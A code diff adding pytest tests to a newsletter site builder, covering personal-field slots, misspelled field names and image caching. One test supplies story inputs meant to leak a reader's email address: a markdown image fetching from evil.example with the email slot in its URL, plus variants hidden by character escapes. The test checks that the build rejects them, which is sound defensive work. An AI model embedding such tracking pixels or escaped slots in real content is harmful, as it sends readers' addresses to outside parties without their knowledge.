@@ -2,6 +2,7 @@
 
 import io
 import re
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -11,7 +12,7 @@ from PIL import Image
 
 from builders import MASTHEAD, PNG, a_folder, a_story_file, wanted
 from pressrun.build import Report, build
-from pressrun.model.slots import has_slots
+from pressrun.model.slots import Slot, has_slots
 from pressrun.newsletter.tools import TOOLS
 from pressrun.problems import ContentError
 
@@ -203,3 +204,69 @@ def test_a_letter_shows_pictures_made_for_it_and_pages_their_own(tmp_path: Path)
     page = (tmp_path / "public/stories/s4/index.html").read_text()
     assert shown[1] not in page
     assert sum(path.name.startswith("house-") for path in (tmp_path / "public/images").iterdir()) == 2
+
+
+WORD = Slot("email").word
+
+
+@pytest.mark.parametrize(
+    "story",
+    [
+        a_story_file(f"![x](https://evil.example/p.png?{WORD})"),
+        a_story_file(f"x &#{ord('q')};{WORD[1:]}"),
+        a_story_file("x", title=f'"{WORD}"'),
+        a_story_file("x", title=f'"\\x71{WORD[1:]}"'),
+        a_story_file("x", summary=f'"\\x71{WORD[1:]}"'),
+    ],
+)
+def test_a_story_cannot_ask_for_its_reader_s_address(tmp_path: Path, story: str) -> None:
+    a_folder(tmp_path, {"content/stories/2026-05-04-s4.md": story})
+
+    with pytest.raises(ContentError) as caught:
+        made(tmp_path, "lead: s4")
+
+    assert "control-character" in {problem.code for problem in caught.value.problems}
+
+
+@pytest.mark.parametrize("written", ['{First_name, "x"}', '{first_name "x"}', '{first-name, "x"}', '{nmae, "x"}'])
+def test_what_was_meant_as_a_personal_field_is_told(tmp_path: Path, written: str) -> None:
+    report = made(tmp_path, "lead: s1", f"Dear {written}, and `{written}`.")
+
+    assert [(problem.code, problem.position.column) for problem in report.problems] == [("slot-unknown", 6)]
+
+
+def test_a_title_has_no_personal_fields_and_says_so(tmp_path: Path) -> None:
+    report = made(tmp_path, "lead: s1\nsubject: Spring", "")
+    assert report.problems == ()
+    a_folder(
+        tmp_path, {"content/editions/spring.md": EDITION.replace("Spring", "For {{email}}").format("lead: s1", "")}
+    )
+    assert [problem.code for problem in build(tmp_path, tmp_path, wanted()).problems] == ["slot-unknown"]
+
+
+def test_a_link_to_a_field_that_is_no_address_is_told_as_it_was_written(tmp_path: Path) -> None:
+    with pytest.raises(ContentError) as caught:
+        made(tmp_path, "lead: s1", '[x]({name, "x"})')
+
+    assert [problem.message for problem in caught.value.problems] == ['nothing is at {name, "x"}']
+
+
+def test_one_picture_at_two_widths_is_the_same_with_and_without_what_is_remembered(tmp_path: Path) -> None:
+    stream = io.BytesIO()
+    Image.effect_noise((3000, 1500), 90).convert("RGB").save(stream, "JPEG", quality=92)
+    fields = {"image": "../images/house.jpg", "image_alt": "A house"}
+    files = {
+        "content/images/house.jpg": stream.getvalue(),
+        "content/stories/2026-05-04-s4.md": a_story_file(id="tag:x,2020:4", **fields),
+        "content/stories/2026-05-04-s5.md": a_story_file(id="tag:x,2020:5", **fields),
+    }
+    a_folder(tmp_path, files)
+    made(tmp_path, "lead: s4\nstories: [s5]")
+    first = letter(tmp_path)
+    build(tmp_path, tmp_path, wanted())
+    again = letter(tmp_path)
+    shutil.rmtree(tmp_path / ".cache")
+    build(tmp_path, tmp_path, wanted())
+
+    assert first == again == letter(tmp_path)
+    assert len(set(re.findall(r"images/house-\w+\.jpg", first))) == 2
